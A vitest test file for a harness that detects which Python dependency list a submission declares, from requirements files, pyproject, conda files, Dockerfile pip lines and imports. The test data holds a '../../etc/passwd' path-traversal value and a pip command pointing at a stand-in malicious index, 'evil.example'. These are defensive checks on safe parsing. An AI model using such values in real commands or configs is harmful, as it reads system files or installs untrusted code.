import { expect, test } from 'vitest';
import { readDeclared } from '../../harness/environment/declared.ts';
import { formatRequirement } from '../../harness/environment/requirement.ts';
import { readWanted } from '../../harness/environment/wanted.ts';
import { chooseCommands } from '../../harness/start/choose.ts';
import { submission } from '../start/submission.ts';

const names = (files: Readonly<Record<string, string>>, requirements?: string) => {
  const input = submission(files);
  const manifest = requirements === undefined ? null : { requirements };
  const declared = readDeclared({ ...input, manifest });
  return [declared.kind, ...declared.requirements.map(formatRequirement)];
};

const lists = {
  'requirements.txt': 'root\n',
  'api/requirements.txt': 'api\n',
  'pyproject.toml': '[project]\ndependencies = ["project"]\n',
  'environment.yml': 'dependencies: [pandas]\n',
};

test('takehome.yaml names the list', () => {
  expect(names({ ...lists, 'x/deps.txt': 'mine\n' }, './x/deps.txt')).toEqual(['requirements', 'mine']);
  expect(names(lists, 'pyproject.toml')).toEqual(['pyproject', 'project']);
});

test('a name that leads nowhere or outside falls back to what is there', () => {
  expect(names(lists, '../../etc/passwd')).toEqual(['requirements', 'root']);
});

test.each([
  [
    '-r of the file that COPY brought',
    'WORKDIR /app\nCOPY api/requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt',
    ['requirements', 'api'],
  ],
  [
    '-r, packages and options',
    'COPY requirements.txt /tmp/requirements.txt\nRUN pip install -i https://evil.example -r /tmp/requirements.txt gunicorn "uvicorn[standard]==0.29.0" --upgrade',
    ['requirements', 'root', 'gunicorn', 'uvicorn[standard]==0.29.0'],
  ],
  [
    'packages alone',
    'RUN pip install --upgrade pip && pip install fastapi==0.109.0 pandas',
    ['dockerfile', 'fastapi==0.109.0', 'pandas'],
  ],
  ['the project', 'WORKDIR /app\nCOPY . .\nRUN pip install .', ['pyproject', 'project']],
  ['uv sync', 'WORKDIR /app\nCOPY . .\nRUN uv sync --frozen', ['pyproject', 'project']],
  [
    'a bind mount',
    'WORKDIR /app\nRUN --mount=type=bind,source=api/requirements.txt,target=api/requirements.txt pip install -r api/requirements.txt',
    ['requirements', 'api'],
  ],
  ['nothing', 'COPY . /app', ['requirements', 'root']],
])('the Dockerfile says which list is meant: %s', (_, text, expected) => {
  expect(names({ ...lists, Dockerfile: `FROM python:3.11\n${text}\nCMD python main.py\n` })).toEqual(
    expected,
  );
});

test('without either, the list nearest to the root, then pyproject, then environment.yml', () => {
  const { 'requirements.txt': _root, ...withoutRoot } = lists;
  const { 'pyproject.toml': _project, ...withoutProject } = withoutRoot;
  expect(names(lists)).toEqual(['requirements', 'root']);
  expect(names(withoutRoot)).toEqual(['pyproject', 'project']);
  expect(names(withoutProject)).toEqual(['requirements', 'api']);
  expect(names({ 'environment.yml': lists['environment.yml'] })).toEqual(['conda', 'pandas']);
  expect(names({ 'notes.ipynb': '{}' })).toEqual(['none']);
});

test('`-e .` is the project: its dependencies are read, and it is no blocked line', () => {
  const input = submission({
    'requirements.txt': '-e .[gpu]\npandas\n',
    'pyproject.toml':
      '[project]\ndependencies = ["project"]\n[project.optional-dependencies]\ngpu = ["torch"]\n',
  });
  const declared = readDeclared(input);
  expect(declared.requirements.map(formatRequirement)).toEqual(['pandas', 'project', 'torch']);
  expect(declared.blocked).toEqual([]);
});

test('what is imported or started and not declared comes from fixed tables, never from a guessed name', () => {
  const input = submission(
    { 'main.py': '', 'helpers.py': '', 'nb.ipynb': '', 'tests/test_a.py': '' },
    {
      'main.py': {
        apps: [{}],
        imports: ['fastapi', 'sklearn.linear_model', 'helpers', 'os', 'very_private_thing', 'cv2'],
      },
      'nb.ipynb': { imports: ['torch'] },
      'tests/test_a.py': { imports: ['fastapi.testclient'], tests: 1 },
    },
  );
  const wanted = readWanted(input, chooseCommands(input));
  expect(wanted.map(({ name }) => name)).toEqual([
    'fastapi',
    'httpx',
    'opencv-python-headless',
    'pytest',
    'scikit-learn',
    'uvicorn',
  ]);
  expect(wanted.find(({ name }) => name === 'scikit-learn')?.because).toBe(
    'imported in main.py:1, not declared',
  );
});

test('what a base image brings is not blamed on the list', () => {
  const input = submission({
    Dockerfile: 'FROM tiangolo/uvicorn-gunicorn-fastapi:python3.8\n',
    'main.py': '',
  });
  const wanted = readWanted(input, chooseCommands(input));
  expect(wanted).toContainEqual({
    name: 'fastapi',
    because: 'part of the base image tiangolo/uvicorn-gunicorn-fastapi:python3.8',
  });
});
